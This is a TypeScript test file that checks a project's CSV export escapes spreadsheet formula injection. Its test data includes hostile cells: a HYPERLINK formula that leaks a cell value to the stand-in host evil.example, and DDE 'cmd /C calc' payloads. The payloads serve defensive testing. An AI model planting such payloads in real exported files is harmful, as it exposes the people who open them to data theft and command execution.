/**
 * CSV injection: no cell of a CSV the project writes may start a formula in Excel or
 * LibreOffice, even when it spans several lines (papaparse's own `escapeFormulae: true`
 * pattern has no `s` flag and lets `=HYPERLINK(…;\n"Cliquez ici")` through). Each hostile
 * value goes through the real writers and is parsed back as a spreadsheet would split it.
 */
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { TIDY_COLUMNS, tidyCsv, type TidyRow } from '../../shared/analyst/publication';
import { FORMULA_TRIGGER } from '../../shared/spreadsheet-safety';

const HOSTILE_CELLS = [
  '=HYPERLINK("http://evil.example/?leak="&A1;\n"Cliquez ici")',
  '=HYPERLINK("http://x";\r\n"Cliquez ici")',
  '+cmd|\' /C calc\'!A0',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+9)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '\n\n@SUM(A1)\nligne',
  '＝1+1',
  '＋1',
];
const HARMLESS_CELLS = ['Le Labo', 'Centre social « Amérique »', '59122', '12.5', 'A15_24', 'ligne 1\nligne 2', 'a=b', 'x-y'];

describe('the formula pattern', () => {
  it('catches every hostile start, multi-line ones included, and leaves ordinary text alone', () => {
    for (const cell of HOSTILE_CELLS) expect(FORMULA_TRIGGER.test(cell), JSON.stringify(cell)).toBe(true);
    for (const cell of HARMLESS_CELLS) expect(FORMULA_TRIGGER.test(cell), JSON.stringify(cell)).toBe(false);
  });
});

describe("the analysts' open-data CSV (reperes-indicateurs.csv)", () => {
  it('prefixes each hostile cell with a quote mark and keeps the rest of the value intact', () => {
    const base = Object.fromEntries(TIDY_COLUMNS.map((c) => [c, 'x'])) as TidyRow;
    const rows: TidyRow[] = HOSTILE_CELLS.map((cell) => ({ ...base, territory_name: cell, category_label: cell }));
    const parsed = Papa.parse<Record<string, string>>(tidyCsv(rows), { header: true, skipEmptyLines: true });
    expect(parsed.errors).toEqual([]);
    expect(parsed.data).toHaveLength(HOSTILE_CELLS.length);
    parsed.data.forEach((row, i) => {
      expect(row['territory_name']).toBe(`'${HOSTILE_CELLS[i]}`);
      expect(row['category_label']).toBe(`'${HOSTILE_CELLS[i]}`);
      // The other cells are untouched.
      expect(row['indicator']).toBe('x');
    });
  });
});
